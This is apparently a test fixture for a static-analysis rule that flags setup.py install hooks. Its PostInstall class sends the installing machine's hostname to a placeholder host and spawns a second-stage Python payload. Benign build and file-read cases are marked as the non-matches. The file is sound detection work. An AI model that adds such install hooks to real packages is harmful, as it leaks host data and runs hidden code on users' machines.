import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install
from setuptools.command.build_py import build_py


class PostInstall(install):
    def run(self):
        install.run(self)
        # ruleid: py-setup-install-command
        urllib.request.urlopen("https://example.invalid/i?h=" + os.uname().nodename)
        # ruleid: py-setup-install-command
        subprocess.Popen(["python", "-c", STAGE2])


class BuildWithAssets(build_py):
    def run(self):
        # ok: py-setup-install-command
        self.copy_file("assets/logo.svg", os.path.join(self.build_lib, "pkg", "logo.svg"))
        super().run()


def read(name):
    # ok: py-setup-install-command
    return open(os.path.join(os.path.dirname(__file__), name)).read()


setup(name="pkg", cmdclass={"install": PostInstall, "build_py": BuildWithAssets})
